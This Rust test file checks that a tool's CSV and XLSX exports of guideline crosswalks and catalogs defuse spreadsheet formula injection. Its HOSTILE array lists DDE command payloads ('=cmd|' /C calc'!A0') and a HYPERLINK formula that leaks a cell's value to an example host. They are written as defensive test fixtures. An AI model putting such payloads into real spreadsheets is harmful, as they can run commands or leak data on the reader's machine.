//! Downloads that cannot attack their reader: a crosswalk or catalog exported
//! as CSV has no cell a spreadsheet would run as a formula, and importing the
//! CSV gives back exactly what was exported; as XLSX, every cell is a string,
//! never a formula (read back with calamine itself).

use sc3_interop::spreadsheet::{
    Sheet, catalog_sheet, catalog_toml, crosswalk_sheet, crosswalk_toml, to_csv, to_xlsx,
};
use sc3_toolkit::sheet::{FORMULA_START, csv_rows, decode};

/// Values a contributor could put in a crosswalk, each at the start of a cell.
const HOSTILE: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
    "+81-3-0000-0000",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted before export",
    "''two quotes",
    "'",
];

fn crosswalk() -> sc3_model::Crosswalk {
    let mut toml = String::from(
        "[crosswalk]\nsource = \"a@1\"\ntarget = \"b@1\"\nstatus = \"draft\"\nmaintainers = [\"@sc3-guidelines\"]\n",
    );
    for (i, v) in HOSTILE.iter().enumerate() {
        let s = sc3_model::prh_convert::toml_string(v);
        toml.push_str(&format!(
            "\n[[map]]\nsource = \"{i}\"\nrelation = \"partial\"\ntargets = [\"x\"]\nrationale = {s}\nmeasure = {s}\n"
        ));
    }
    let loaded = sc3_model::load_from_memory([("mappings/a@1--b@1.toml", toml.as_bytes())]);
    assert_eq!(loaded.diagnostics, vec![]);
    loaded.repo.crosswalks.into_iter().next().unwrap()
}

/// The cells of a CSV file as a spreadsheet sees them (nothing removed).
fn raw_cells(csv: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(csv.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn no_csv_cell_begins_a_formula_and_import_gives_back_every_value() {
    let cw = crosswalk();
    let title = |id: &str| HOSTILE[id.parse::<usize>().unwrap()].to_owned();
    let sheet = crosswalk_sheet(&cw, &title);
    let csv = to_csv(&sheet);
    let cells = raw_cells(&csv);
    for cell in cells.iter().flatten() {
        assert!(
            !cell.starts_with(FORMULA_START),
            "a spreadsheet would run {cell:?}"
        );
    }
    let text = String::from_utf8(csv.clone()).unwrap();
    // The reported cells, as written: quoted, with one `'` in front.
    assert!(text.contains("\"'@sc3-guidelines\""), "{text}");
    assert!(text.contains("\"'=cmd|' /C calc'!A0\""), "{text}");
    assert!(text.contains("\"'=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"x\"\")\""));
    // A cell that began with `'` gets one more, so reading it is unambiguous.
    assert!(text.contains("\"''quoted before export\""));
    assert!(text.contains("\"'''two quotes\""));
    // Read back: the same cells as exported, then the same crosswalk.
    let rows = csv_rows(&decode(&csv).unwrap()).unwrap();
    let read: Sheet = rows.iter().map(|(_, c)| c.clone()).collect();
    let without_blank: Sheet = sheet.iter().filter(|r| !r.is_empty()).cloned().collect();
    assert_eq!(read, without_blank);
    let toml = crosswalk_toml(&rows).unwrap();
    let loaded = sc3_model::load_from_memory([("mappings/a@1--b@1.toml", toml.as_bytes())]);
    assert_eq!(loaded.diagnostics, vec![]);
    let again = &loaded.repo.crosswalks[0];
    assert_eq!(crosswalk_sheet(again, &title), sheet);
    let rationales: Vec<&str> = again
        .maps
        .iter()
        .map(|m| m.rationale.as_ref().unwrap().value.as_str())
        .collect();
    assert_eq!(rationales, HOSTILE);
    assert_eq!(again.maintainers[0].value, "@sc3-guidelines");
}

#[test]
fn every_cell_reads_back_as_written_whatever_it_begins_with() {
    // Cell by cell, including the line breaks and tabs a crosswalk's fields
    // would lose to trimming on import.
    let cells: Vec<String> = [
        "\t=1+2", "\r\n=x", "\n-", "'", "''", "'\t", "\"=1\"", "a,=b", "x;=y",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    let sheet: Sheet = vec![cells.clone(), vec!["=".to_owned()]];
    let csv = to_csv(&sheet);
    for cell in raw_cells(&csv).iter().flatten() {
        assert!(!cell.starts_with(FORMULA_START), "{cell:?}");
    }
    let rows = csv_rows(&decode(&csv).unwrap()).unwrap();
    assert_eq!(rows, [(1, cells), (2, vec!["=".to_owned()])]);
}

#[test]
fn a_catalog_round_trips_with_dashes_and_quotes_in_front() {
    let toml = "[guideline]\nid = \"x\"\nversion = \"1\"\ntitle = \"=タイトル\"\npublisher = \"@協会\"\nlevels = []\n\n[[item]]\nid = \"a\"\ntitle = \"-見出し\"\ntext = \"- 箇条書き\\n- 二つ目\"\n\n[[item]]\nid = \"b\"\ntitle = \"'引用\"\n";
    let loaded = sc3_model::load_from_memory([("guidelines/x/1.toml", toml.as_bytes())]);
    assert_eq!(loaded.diagnostics, vec![]);
    let sheet = catalog_sheet(&loaded.repo.guidelines[0]);
    let csv = to_csv(&sheet);
    assert!(
        raw_cells(&csv)
            .iter()
            .flatten()
            .all(|c| !c.starts_with(FORMULA_START))
    );
    let toml = catalog_toml(&csv_rows(&decode(&csv).unwrap()).unwrap()).unwrap();
    let again = sc3_model::load_from_memory([("guidelines/x/1.toml", toml.as_bytes())]);
    assert_eq!(again.diagnostics, vec![]);
    assert_eq!(catalog_sheet(&again.repo.guidelines[0]), sheet);
    let g = &again.repo.guidelines[0];
    assert_eq!(g.title.value, "=タイトル");
    assert_eq!(
        g.items[0].text.as_ref().unwrap().value,
        "- 箇条書き\n- 二つ目"
    );
    assert_eq!(g.items[1].title.value, "'引用");
}

#[test]
fn xlsx_cells_are_strings_and_never_formulas() {
    use calamine::{Data, Reader, Xlsx};
    let cw = crosswalk();
    let sheet = crosswalk_sheet(&cw, &|_| "=1+1".to_owned());
    let bytes = to_xlsx(&sheet, "突合表").unwrap();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let formulas = book.worksheet_formula("突合表").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell has a formula"
    );
    // The check sees formulas where there are some.
    let mut control = rust_xlsxwriter::Workbook::new();
    control
        .add_worksheet()
        .set_name("突合表")
        .unwrap()
        .write_formula(0, 0, "=1+1")
        .unwrap();
    let mut control: Xlsx<_> =
        Xlsx::new(std::io::Cursor::new(control.save_to_buffer().unwrap())).unwrap();
    let f = control.worksheet_formula("突合表").unwrap();
    assert_eq!(f.get_value((0, 0)).map(String::as_str), Some("1+1"));
    let range = book.worksheet_range("突合表").unwrap();
    let mut checked = 0;
    for row in range.rows() {
        for cell in row {
            match cell {
                Data::String(s) if s.starts_with(FORMULA_START) => checked += 1,
                Data::String(_) | Data::Empty => {}
                other => panic!("not a string: {other:?}"),
            }
        }
    }
    // maintainers, every entry's title, and five rationales and measures
    // (the `'` values do not count).
    assert_eq!(
        checked,
        1 + HOSTILE.len() + 2 * 5,
        "every formula-like value, as text"
    );
    let rows = sc3_toolkit::sheet::xlsx_rows(&to_xlsx(&sheet, "突合表").unwrap()).unwrap();
    assert_eq!(rows[5].1[1], "@sc3-guidelines");
    assert_eq!(rows[9].1[5], HOSTILE[0]);
}
